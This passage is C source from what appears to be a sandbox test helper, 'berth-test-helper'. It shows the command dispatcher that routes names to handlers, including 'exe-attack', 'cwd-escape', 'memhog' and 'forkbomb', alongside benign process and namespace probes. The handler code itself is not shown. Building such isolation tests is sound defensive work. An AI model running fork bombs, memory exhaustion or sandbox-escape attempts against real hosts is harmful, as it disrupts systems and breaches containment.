        NEED(1);
        return cmd_hugetlb(atol(args[0]));
    }
    if (!strcmp(cmd, "spin")) {
        NEED(2);
        return cmd_spin(atol(args[0]), atof(args[1]));
    }
    if (!strcmp(cmd, "read")) {
        NEED(1);
        return cmd_read(args[0]);
    }
    if (!strcmp(cmd, "write")) {
        NEED(2);
        return cmd_write(args[0], args[1]);
    }
    if (!strcmp(cmd, "rlimit")) {
        NEED(1);
        return cmd_rlimit(args[0]);
    }
    if (!strcmp(cmd, "umask"))
        return cmd_umask();
    if (!strcmp(cmd, "tty"))
        return cmd_tty();
    if (!strcmp(cmd, "mounts"))
        return cmd_mounts();
    if (!strcmp(cmd, "exe-attack")) {
        double secs = 5;
        if (nargs >= 1) {
            char *end;
            secs = strtod(args[0], &end);
            if (end == args[0] || *end)
                return usage_error("exe-attack: bad number");
        }
        if (nargs >= 2 && (!strcmp(args[1], "harmless") || !strcmp(args[1], "--harmless")))
            harmless = 1;
        return cmd_exe_attack(secs);
    }
    if (!strcmp(cmd, "cwd-escape"))
        return cmd_cwd_escape();
    if (!strcmp(cmd, "memhog")) {
        NEED(1);
        if (parse_long(args[0], &n) < 0)
            return usage_error("memhog: bad number");
        return cmd_memhog(n);
    }
    if (!strcmp(cmd, "forkbomb")) {
        NEED(1);
        if (parse_long(args[0], &n) < 0)
            return usage_error("forkbomb: bad number");
        return cmd_forkbomb(n);
    }
    if (!strcmp(cmd, "ns"))
        return cmd_ns();
    if (!strcmp(cmd, "sysctl")) {
        NEED(1);
        return cmd_sysctl(args[0]);
    }
    if (!strcmp(cmd, "personality"))
        return cmd_personality();
    if (!strcmp(cmd, "sched"))
        return cmd_sched();
    if (!strcmp(cmd, "oom"))
        return cmd_oom();
    if (!strcmp(cmd, "ppid")) {
        printf("%d\n", (int)getppid());
        return 0;
    }
    if (!strcmp(cmd, "pid")) {
        printf("%d\n", (int)getpid());
        return 0;
    }
    if (!strcmp(cmd, "signals"))
        return cmd_signals();
    if (!strcmp(cmd, "keyring"))
        return cmd_keyring();
#undef NEED

    fprintf(stderr, "berth-test-helper: unknown command '%s'\n%s", cmd, usage);
    return 2;
}
